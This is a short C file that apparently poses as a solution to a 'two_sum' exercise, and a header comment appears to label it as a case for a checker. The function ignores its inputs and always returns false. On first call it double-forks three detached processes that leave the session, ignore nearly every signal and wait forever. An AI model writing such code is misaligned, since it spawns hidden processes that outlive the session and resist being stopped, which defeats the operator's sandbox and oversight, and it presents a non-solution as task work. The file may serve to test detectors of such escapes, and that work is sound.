/* SV|WA: leaves processes whose parents are dead and who left the session */
#define _GNU_SOURCE
#include "two_sum.h"

#include <signal.h>
#include <unistd.h>

bool two_sum(const int *nums, size_t n, int target, size_t pair[2])
{
	(void)nums;
	(void)n;
	(void)target;
	(void)pair;
	static int once;

	for (int i = 0; i < 3 && once == 0; i++)
		if (fork() == 0) {
			setsid();
			if (fork() > 0)
				_exit(0);
			for (int s = 1; s < 32; s++)
				signal(s, SIG_IGN);
			for (;;)
				pause();
		}
	once = 1;
	return false;
}
